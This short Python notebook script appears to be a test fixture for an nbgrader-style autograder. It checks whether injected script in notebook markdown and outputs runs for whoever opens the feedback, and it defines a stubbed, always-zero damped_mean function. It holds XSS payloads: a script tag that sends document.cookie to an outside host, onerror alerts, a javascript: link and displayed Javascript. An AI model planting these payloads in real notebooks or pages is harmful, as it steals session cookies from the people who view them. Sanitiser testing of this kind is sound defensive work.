# ruff: noqa
# what: Script waits in outputs, markdown and attachments for whoever opens the feedback.
# status: graded
# points: 5
# other exercises: right
# plain nbgrader: run

# %% notebook
from nbformat.v4 import new_markdown_cell

evil = "<script>fetch('https://example.org/' + document.cookie)</script><img src=x onerror=alert(1)>"
nb.cells.append(new_markdown_cell(evil + "\n[click](javascript:alert(1))"))
# %% damped
from IPython.display import HTML, Javascript, display


def damped_mean(values, damping, prior):
    return 0.0


display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)>"), Javascript("alert(1)"))
